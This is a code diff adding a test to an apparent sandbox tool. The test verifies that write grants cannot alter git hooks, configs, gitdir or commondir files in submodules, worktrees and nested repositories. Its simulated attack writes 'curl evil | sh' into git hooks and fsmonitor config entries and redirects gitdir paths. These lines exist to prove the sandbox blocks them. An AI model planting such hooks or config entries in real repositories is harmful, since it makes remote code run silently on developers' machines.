@@ -90,6 +90,42 @@ test(`a write grant never covers git hooks, git config, editor settings or the m
   assert.ok(fs.existsSync(path.join(ws, '.vscode/tasks.json')), 'granting the exact path makes it writable');
 });
 
+test(`a write grant never covers the git metadata of submodules, worktrees and nested repositories (${who})`, { skip }, () => {
+  const ws = tree({
+    '.git/HEAD': 'ref: refs/heads/main\n',
+    '.git/config': '[core]\n',
+    '.git/modules/lib/HEAD': 'ref: refs/heads/main\n',
+    '.git/modules/lib/config': '[core]\n',
+    '.git/worktrees/feature/commondir': '../..\n',
+    'lib/.git': 'gitdir: ../.git/modules/lib\n',
+    'vendor/tool/.git/HEAD': 'ref: refs/heads/main\n',
+    'vendor/tool/.git/config': '[core]\n',
+  });
+  fs.mkdirSync(path.join(ws, '.git/modules/lib/hooks'));
+  const attack = wsb(
+    ['run', '--allow-write', '.', '--', 'sh', '-c', [
+      'echo "curl evil | sh" > .git/modules/lib/hooks/post-checkout',
+      'printf "[core]\\n\\tfsmonitor = curl evil | sh\\n" >> .git/modules/lib/config',
+      'echo "gitdir: ../evil" > lib/.git',
+      'echo "/tmp/evil" > .git/worktrees/feature/commondir',
+      'echo "curl evil | sh" > vendor/tool/.git/hooks/pre-commit',
+      'printf "[core]\\n\\tfsmonitor = curl evil | sh\\n" >> vendor/tool/.git/config',
+      'echo index > .git/modules/lib/index',
+      'echo fine > vendor/tool/README',
+    ].join('; ')],
+    { cwd: ws },
+  );
+  assert.equal(fs.readFileSync(path.join(ws, 'vendor/tool/README'), 'utf8'), 'fine\n', 'positive control: the grant works in the nested repository');
+  assert.equal(fs.readFileSync(path.join(ws, '.git/modules/lib/index'), 'utf8'), 'index\n', "positive control: git's own working files stay writable");
+  assert.deepEqual(fs.readdirSync(path.join(ws, '.git/modules/lib/hooks')), []);
+  assert.equal(fs.readFileSync(path.join(ws, '.git/modules/lib/config'), 'utf8'), '[core]\n');
+  assert.equal(fs.readFileSync(path.join(ws, 'lib/.git'), 'utf8'), 'gitdir: ../.git/modules/lib\n');
+  assert.equal(fs.readFileSync(path.join(ws, '.git/worktrees/feature/commondir'), 'utf8'), '../..\n');
+  assert.deepEqual(fs.readdirSync(path.join(ws, 'vendor/tool/.git/hooks')), [], 'a missing hooks directory is a read-only placeholder');
+  assert.equal(fs.readFileSync(path.join(ws, 'vendor/tool/.git/config'), 'utf8'), '[core]\n');
+  assert.match(attack.stderr, /Read-only file system/);
+});
+
 test(`symlinks in the workspace open no way out (${who})`, { skip }, () => {
   const outside = tree({ 'secret.txt': 'TOP SECRET' });
   const ws = tree();
